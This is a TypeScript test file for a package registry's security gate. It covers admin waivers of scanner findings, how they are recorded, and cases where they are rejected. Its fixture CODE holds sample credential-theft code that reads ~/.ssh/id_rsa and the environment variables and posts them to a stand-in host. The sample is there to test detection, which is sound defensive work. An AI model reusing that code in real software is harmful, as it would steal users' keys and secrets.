/** Findings that an admin accepts, from the refusal to the record; and a second scanner. */
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { GateVerdict } from '../../generator/gate/gate-verdict.ts';
import { parseDocument } from '../../format/document/document.ts';
import { waiversPath } from '../../format/index/layout.ts';
import type { PackageRecord } from '../../format/index/record.ts';
import { Waivers } from '../../format/index/waivers.ts';
import { generateDocuments } from '../generate/generate-documents.ts';
import { runCommand } from '../run/generator-command.ts';
import { ALICE, GateFixture, REGISTRY, ROOT, build, codes } from './gate-fixture.ts';
import { temporaryFolder, type Files } from '../generate/git-fixture.ts';
import { readRecord } from '../generate/index-reader.ts';

const ID = 'alice/web-forms';
const PATH = `moderation/${ID}.json`;
const FILE = 'src/report.js';
/** What the scan finds to be dangerous, by several facts. */
const CODE = [
  "import { readFileSync } from 'node:fs';",
  "import { homedir } from 'node:os';",
  "const key = readFileSync(homedir() + '/.ssh/id_rsa', 'utf8');",
  "const all = Object.entries(process.env).map(([name, value]) => name + '=' + value).join();",
  "await fetch('https://c.host-of-nobody.io/e', { method: 'POST', body: key + all });",
  '',
].join('\n');

const dangerous = (version: string, code = CODE): Files => build(ID, version, {}, { [FILE]: code });
const digest = (text: string): string => createHash('sha256').update(text).digest('hex');

interface Accepted {
  readonly version: string;
  readonly code: string;
  readonly file: string;
  readonly sha256: string;
  readonly reason: string;
  readonly by: string;
  readonly at: string;
}

function accepted(code: string, changes: Partial<Accepted> = {}): Accepted {
  const known = {
    version: '1.1.0',
    file: FILE,
    sha256: digest(CODE),
    by: 'root',
    at: '2026-02-28',
  };
  return { ...known, code, reason: 'It is the purpose of the build', ...changes };
}

const moderation = (...waivers: readonly object[]): Files => ({
  [PATH]: JSON.stringify({ waivers }),
});

/** The codes of what makes a proposed build dangerous. */
function accusations(verdict: GateVerdict): string[] {
  const [judged] = verdict.builds;
  const found = judged?.findings.filter(({ level, file }) => level === 'error' && file === FILE);
  return [...new Set(found?.map(({ code }) => code))];
}

/** The real program. */
async function gate(fixture: GateFixture, head: string, ...more: string[]): Promise<GateVerdict> {
  const { folder } = fixture.git;
  const sides = ['--repo', folder, '--base', 'main', '--head', head];
  const author = ['--author', 'alice', '--author-id', '11', '--json'];
  const { stdout } = await runCommand('gate', [...sides, ...author, ...more]);
  return GateVerdict.parse(JSON.parse(stdout));
}

const recordAt = (out: string, version: string): PackageRecord => readRecord(out, ID, version);
const waivedAt = (out: string, version: string): object[] => {
  const file = join(out, waiversPath(ID));
  if (!existsSync(file)) return [];
  const { versions } = parseDocument(Waivers, readFileSync(file), file);
  return versions.find((one) => one.version === version)?.findings ?? [];
};

describe('a finding that is wrong', () => {
  it('is appealed, accepted by an admin, shown, and stays accepted while its file is the same', async () => {
    const repository = 'https://code.example/registry.git';
    const config = JSON.parse(REGISTRY['registry.config.json'] as string) as object;
    const fixture = new GateFixture({
      ...REGISTRY,
      'registry.config.json': JSON.stringify({ ...config, repository }),
    });
    const head = fixture.pull(dangerous('1.1.0'));
    const refused = await gate(fixture, head);
    expect([refused.verdict, codes(refused)]).toEqual([
      'refuse',
      expect.arrayContaining(['gate-danger']),
    ]);
    expect(refused.appeal).toBe('https://code.example/registry/issues/new?template=appeal.yml');
    const sides = ['--repo', fixture.git.folder, '--base', 'main', '--head', head];
    const author = ['--author', 'alice', '--author-id', '11', '--markdown'];
    const { stdout: comment } = await runCommand('gate', [...sides, ...author]);
    expect(comment).toContain(refused.appeal);

    // The admin answers.
    const found = accusations(refused);
    expect(found.length).toBeGreaterThan(0);
    const waivers = found.map((code) => accepted(code));
    const answer = await fixture.propose(moderation(...waivers), ROOT);
    expect([answer.verdict, codes(answer)]).toEqual(['merge', []]);
    fixture.land(answer);

    // The same pull request.
    const judged = await gate(fixture, head);
    expect([judged.verdict, judged.builds[0]?.risk]).not.toEqual(['refuse', 'danger']);
    expect(codes(judged)).not.toContain('gate-danger');
    const [shown] = judged.builds[0]!.findings.filter(({ code }) => code === found[0]);
    expect(shown?.message).toContain('accepted by root on 2026-02-28: It is the purpose');
    fixture.land(judged);

    const out = join(temporaryFolder(), 'index');
    const run = (to = out): ReturnType<typeof generateDocuments> =>
      generateDocuments({ repo: fixture.git.folder, out: to, threads: 1 });
    expect((await run()).problems.failing).toEqual([]);
    const record = recordAt(out, '1.1.0');
    expect(record.risk).toBe(judged.builds[0]?.risk);
    expect(record.checks.risk).toBe(record.risk);
    const { reason, by, at } = waivers[0]!;
    const [waived] = record.checks.findings.filter(({ code }) => code === found[0]);
    expect(Object.keys(waived!).sort()).toEqual(['code', 'file', 'level', 'message']);
    expect(waivedAt(out, '1.1.0')).toContainEqual({ code: found[0], file: FILE, reason, by, at });

    // A later version with the same file, and one with another.
    fixture.git.commit(dangerous('1.2.0'));
    expect((await run()).problems.failing).toEqual([]);
    expect(recordAt(out, '1.2.0').risk).toBe(record.risk);
    const other = `${CODE}// More\n`;
    const changed = await gate(fixture, fixture.pull(dangerous('1.3.0', other)));
    expect(changed.verdict).toBe('refuse');
    expect(codes(changed)).toEqual(expect.arrayContaining(['gate-danger', 'gate-waiver-stale']));
    fixture.git.commit(dangerous('1.3.0', other));
    await run();
    expect(recordAt(out, '1.3.0').risk).toBe('danger');
    expect(waivedAt(out, '1.3.0')).toEqual([]);

    // Removed again: what was built step by step is what one run builds.
    const same = async (): Promise<void> => {
      const full = join(temporaryFolder(), 'full');
      await run(full);
      for (const version of ['1.0.0', '1.1.0', '1.2.0', '1.3.0']) {
        expect(recordAt(out, version)).toEqual(recordAt(full, version));
        expect(waivedAt(out, version)).toEqual(waivedAt(full, version));
      }
      const head = `heads/${ID}.json`;
      expect(readFileSync(join(out, head), 'utf8')).toBe(readFileSync(join(full, head), 'utf8'));
      const owner = 'owners/alice.json';
      expect(readFileSync(join(out, owner), 'utf8')).toBe(readFileSync(join(full, owner), 'utf8'));
    };
    await same();
    fixture.git.commit({ [PATH]: JSON.stringify({}) });
    await run();
    expect(recordAt(out, '1.2.0').risk).toBe('danger');
    expect(existsSync(join(out, waiversPath(ID)))).toBe(false);
    await same();
  });
});

describe('a waiver', () => {
  const rejected = async (waiver: object, author = ROOT): Promise<string[]> => {
    const verdict = await new GateFixture().propose(moderation(waiver), author);
    expect(verdict.verdict).toBe('refuse');
    return verdict.reasons.map(({ code, message }) => `${code}: ${message}`);
  };

  it('is refused from anybody but an admin', async () => {
    expect(await rejected(accepted('data-exfiltration'), ALICE)).toEqual([
      expect.stringContaining('gate-moderation: '),
    ]);
  });

  it.each([
    ['a code that does not exist', { code: 'no-such-code' }, 'no finding with this code'],
    ['a code that is no accusation', { code: 'license-file-missing' }, 'no finding with this code'],
    ['another admin', { by: 'carol' }, 'not the author "root"'],
    ['a day to come', { at: '2026-03-09' }, 'in the future'],
    ['a text that hides', { reason: 'fine\u202e' }, 'field "reason"'],
    ['a version that never was', { version: '1.0.0-rc.1' }, 'was never published'],
    ['a file that the version does not have', { version: '1.0.0' }, 'has no such file'],
    [
      'another content of the file',
      { version: '1.0.0', file: 'README.md' },
      'has another content there',
    ],
  ])('is refused for %s', async (_, changes, message) => {
    const reasons = await rejected({ ...accepted('data-exfiltration'), ...changes });
    expect(reasons).toEqual([expect.stringMatching(/^gate-waiver: /)]);
    expect(reasons[0]).toContain(message);
  });

  it('is refused where it is malformed', async () => {
    for (const changes of [{ sha256: 'abc' }, { file: '../x' }, { extra: 1 }, { version: '1' }]) {
      const reasons = await rejected({ ...accepted('data-exfiltration'), ...changes });
      expect(reasons).toEqual([expect.stringMatching(/^gate-moderation-file: /)]);
    }
  });

  it('of a published version is taken, and of an own build another admin looks', async () => {
    const published = new GateFixture();
    const readme = readFileSync(join(published.git.folder, 'builds', ID, 'README.md'), 'utf8');
    const waiver = { version: '1.0.0', file: 'README.md', sha256: digest(readme) };
    const files = moderation(accepted('data-exfiltration', waiver));
    expect(codes(await published.propose(files, ROOT))).toEqual([]);
    const config = { admins: [{ login: 'alice', account_id: 11 }], site: false };
    published.git.commit({ 'registry.config.json': JSON.stringify(config) });
    const own = moderation(accepted('data-exfiltration', { ...waiver, by: 'alice' }));
    expect(codes(await published.propose(own, ALICE))).toEqual(['gate-waiver-own']);
  });

  it('that came past the gate and accepts nothing is reported by the generator, and changes nothing', async () => {
    const { git } = new GateFixture();
    git.commit(
      moderation(
        accepted('data-exfiltration', { version: '1.0.0-rc.1' }),
        accepted('data-exfiltration', { version: '1.0.0', file: 'README.md' }),
        accepted('no-such-code', { version: '1.0.0' }),
        accepted('data-exfiltration', { version: '2.0.0' }),
      ),
    );
    const out = join(temporaryFolder(), 'index');
    const report = await generateDocuments({ repo: git.folder, out, threads: 1 });
    expect(report.problems.failing.map(({ path, finding }) => [path, finding.code])).toEqual(
      Array(3).fill([PATH, 'moderation-waiver']),
    );
    expect(recordAt(out, '1.0.0').risk).toBe('ok');
    git.commit({ [PATH]: '{ "waivers": 1 }' });
    const broken = await generateDocuments({ repo: git.folder, out, threads: 1 });
    expect(broken.problems.failing).toHaveLength(1);
    // One that held before goes with the file, and the file is still reported.
    const readme = readFileSync(join(git.folder, 'builds', ID, 'README.md'), 'utf8');
    const about = { version: '1.0.0', file: 'README.md', sha256: digest(readme) };
    git.commit(moderation(accepted('data-exfiltration', about)));
    const held = await generateDocuments({ repo: git.folder, out, threads: 1 });
    expect(held.problems.failing).toEqual([]);
    git.commit({ [PATH]: '{ "waivers": 2 }' });
    const again = await generateDocuments({ repo: git.folder, out, threads: 1 });
    expect(again).toMatchObject({ isFull: false });
    expect(again.problems.failing).toHaveLength(1);
    git.commit({ [PATH]: null });
    const gone = await generateDocuments({ repo: git.folder, out, threads: 1 });
    expect(gone.problems.failing).toEqual([]);
  });

  it('does not count in the pull request that brings it', async () => {
    const fixture = new GateFixture();
    const found = accusations(await fixture.propose(dangerous('1.1.0')));
    const files = { ...dangerous('1.1.0'), ...moderation(...found.map((code) => accepted(code))) };
    expect(codes(await fixture.propose(files, ROOT))).toContain('gate-danger');
  });
});
